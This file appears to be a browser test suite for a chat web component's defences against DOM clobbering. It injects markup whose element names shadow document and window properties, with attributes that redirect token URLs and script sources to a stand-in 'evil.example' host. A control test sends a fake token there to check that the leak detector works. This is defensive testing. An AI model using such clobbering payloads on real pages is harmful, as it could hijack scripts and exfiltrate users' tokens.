import { expect } from '@open-wc/testing'
import { chatOrigin, endpoint, EVENT, makeReply, until, whenState } from './bench.js'
import type { KinescopeChatElement } from '../../src/index.js'
import { closePages, openPage } from './open-page.js'

afterEach(closePages)

const FILE = '/bench/dist/kinescope-chat.js'
const EVIL = 'https://evil.example'
const TAG = `<kinescope-chat event-id="${EVENT}"></kinescope-chat>`
const SETTINGS = `data-token-url="${EVIL}/token" data-chat-origin="${EVIL}" data-identity="e.v.l" data-upgrade="body" src="${EVIL}/kinescope-chat.js" href="${EVIL}/kinescope-chat.js"`

/** Elements whose name or id replaces a property of `document` or of the window. */
const SHAPES: Record<string, (name: string) => string> = {
  'an image': (name) => `<img name="${name}" alt="" ${SETTINGS}>`,
  'two images': (name) =>
    `<img name="${name}" id="${name}" alt="" ${SETTINGS}><img name="${name}" alt="" ${SETTINGS}>`,
  'a form with fields': (name) =>
    `<form name="${name}" id="${name}" ${SETTINGS}><input name="src" value="${EVIL}/kinescope-chat.js"><input name="dataset"><output name="dataset" ${SETTINGS}></output></form>`,
  'an object': (name) => `<object id="${name}" ${SETTINGS}></object>`,
  // without an address: a page loads only after its embeds, and no server answers there
  'an embed': (name) => `<embed name="${name}" ${SETTINGS.replace(/ src="[^"]*"/, '')}>`,
  'a link': (name) => `<a id="${name}" name="${name}" ${SETTINGS}>x</a>`,
  'a drawing’s script': (name) => `<svg><script id="${name}" ${SETTINGS} type="text/plain"></script></svg>`,
  'a frame': (name) => `<iframe name="${name}" title="x" ${SETTINGS.replace(/ src="[^"]*"/, '')}></iframe>`,
}

/** The properties of `document` and the window that the element and lit read, and similar names. */
const NAMES = [
  ...[
    'currentScript',
    'scripts',
    'baseURI',
    'readyState',
    'documentElement',
    'head',
    'body',
    'defaultView',
    'cookie',
  ],
  ...[
    'addEventListener',
    'removeEventListener',
    'querySelector',
    'querySelectorAll',
    'adoptedStyleSheets',
    'styleSheets',
  ],
  ...[
    'visibilityState',
    'hidden',
    'activeElement',
    'designMode',
    'location',
    'URL',
    'referrer',
    'fonts',
    'hasFocus',
    'dir',
  ],
  ...[
    'getRootNode',
    'ownerDocument',
    'nodeType',
    'contains',
    'title',
    'lang',
    'all',
    'domain',
    'documentURI',
    'host',
    'Zone',
    'origin',
  ],
  ...[
    'KinescopeChat',
    'customElements',
    'fetch',
    'navigator',
    'performance',
    'trusted',
    'HTMLScriptElement',
    'Error',
    'URLSearchParams',
  ],
]
/** Properties that lit itself requires: a chat may not start, but nothing leaks and the page goes on. */
const STOPPERS = [
  ...[
    'createElement',
    'createElementNS',
    'createTreeWalker',
    'createComment',
    'importNode',
    'createTextNode',
    'adoptNode',
  ],
  ...[
    'litHtmlVersions',
    'litElementVersions',
    'reactiveElementVersions',
    'litHtmlPolyfillSupport',
    'reactiveElementPolyfillSupport',
  ],
  ...[
    'litElementHydrateSupport',
    'ShadyDOM',
    'ShadyCSS',
    'litNonce',
    'trustedTypes',
    'litIssuedWarnings',
    'createDocumentFragment',
  ],
]

/** The markup once for each name, written while the page is parsed: all of it would be too long for an address. */
const written = (names: string[], markup: (name: string) => string) =>
  `<script>for (const name of ${JSON.stringify(names)}) document.write(${JSON.stringify(markup('%')).replaceAll('<', '\\u003c')}.replaceAll('%', name))</script>`

async function openAmong(content: string) {
  const { url, asked } = await endpoint({ body: makeReply() })
  const head = `<script>
    sent = []
    const note = (what) => sent.push(String(what))
    { const real = fetch; window.fetch = (url, init) => (note(new Request(url, init).url + ' ' + JSON.stringify(init?.headers ?? {})), real(url, init)) }
  </script>`
  const page = await openPage({
    head,
    body: `${content}<main>${TAG}</main><script type="module" src="${FILE}" data-token-url="${url}" data-chat-origin="${chatOrigin}" data-identity="a.b.c"></script>`,
  })
  const { sent } = page.window as unknown as { sent: string[] }
  return { page, asked, sent }
}

describe('a page whose content uses the names of properties that the file reads', () => {
  for (const [shape, markup] of Object.entries(SHAPES))
    it(`shows its chat, and sends its identity token to no other server: ${shape}`, async () => {
      const { page, asked, sent } = await openAmong(written(NAMES, markup))
      const chat = await until(() => {
        const found = page.document.getElementsByTagName('kinescope-chat')[0]
        return found?.shadowRoot && found
      })
      await whenState(chat, 'ready')
      expect((await asked()).map(({ authorization }) => authorization)).to.deep.equal(['Bearer a.b.c'])
      expect(sent.filter((request) => request.includes('evil'))).to.deep.equal([])
      expect(page.errors).to.deep.equal([])
    })

  const everyName = (kind: object, ...without: string[]): string[] => {
    const names = new Set<string>()
    for (let next = kind; next !== Object.prototype; next = Object.getPrototypeOf(next) as object)
      for (const name of Object.getOwnPropertyNames(next)) names.add(name)
    return [...names].filter((name) => !without.includes(name) && name !== 'constructor')
  }

  it('shows its chat with images named like every property of a document', async () => {
    const names = everyName(Document.prototype, 'write', ...STOPPERS)
    const { page, asked } = await openAmong(written(names, SHAPES['an image']!))
    const [chat] = Reflect.apply(Document.prototype.getElementsByTagName, page.document, ['kinescope-chat'])
    await whenState(chat as KinescopeChatElement, 'ready')
    expect((await asked()).map(({ authorization }) => authorization)).to.deep.equal(['Bearer a.b.c'])
    expect(names).to.include.members(['currentScript', 'getRootNode', 'baseURI'])
  })

  it('shows its chat in a form with fields named like every property of a form', async () => {
    const names = everyName(HTMLFormElement.prototype)
    const { page } = await openAmong(
      `<form lang="ru">${TAG}${written(names, (name) => `<input type="hidden" name="${name}">`)}</form>`,
    )
    const chat = page.chat()!
    await whenState(chat, 'ready')
    expect(chat.shadowRoot!.querySelector('[lang]')!.getAttribute('lang')).to.equal('ru')
    expect(page.errors).to.deep.equal([])
    expect(names).to.include.members(['getAttribute', 'getRootNode', 'parentNode'])
  })

  it('shows its chat in a div with a form whose fields are named like every property of a form', async () => {
    const names = everyName(HTMLFormElement.prototype)
    const { page } = await openAmong(
      `<div data-kinescope-chat="${EVENT}"><form id="old" tabindex="0">${written(names, (name) => `<input name="${name}">`)}Soon</form></div>`,
    )
    const chat = await until(() => page.chat('div > kinescope-chat'))
    await whenState(chat, 'ready')
    const placeholder = chat.querySelector('[slot=placeholder]')!
    expect(placeholder.textContent).to.contain('Soon')
    expect(placeholder.querySelector('[id], [name]')).to.equal(null)
    expect(page.errors).to.deep.equal([])
    expect(names).to.include.members(['matches', 'cloneNode', 'removeAttribute'])
  })

  it('shows its chats beside a mark that can’t have one', async () => {
    const mark = `<div data-kinescope-chat="${EVENT}"></div>`
    const { page } = await openAmong(
      `${mark}<script>document.querySelector('div').appendChild = () => { throw new Error('x') }</script>${mark}`,
    )
    await whenState(await until(() => page.chat('div > kinescope-chat')), 'ready')
    expect(page.faults.join()).to.contain('could not start')
  })

  it('shows its chat beside a frame of another site with the name Zone', async () => {
    const { page } = await openAmong(`<iframe name="Zone" title="x" src="${chatOrigin}/chat/zone"></iframe>`)
    await whenState(page.chat()!, 'ready')
    expect(() => Reflect.get(page.window, 'Zone').root as unknown).to.throw()
  })

  for (const name of STOPPERS)
    it(`leaks nothing, with or without a chat: ${name}`, async () => {
      for (const markup of Object.values(SHAPES)) {
        const { sent } = await openAmong(markup(name))
        await new Promise((resolve) => setTimeout(resolve, 30))
        expect(sent.filter((request) => request.includes('evil'))).to.deep.equal([])
        closePages()
      }
    })

  it('is caught if it leaks: the control', async () => {
    const { sent } = await openAmong(
      `<script>fetch('${EVIL}/token', { headers: { a: 'e.v.l' } }).catch(() => {})</script>`,
    )
    expect(sent.filter((request) => request.includes('evil'))).to.have.length(1)
  })
})
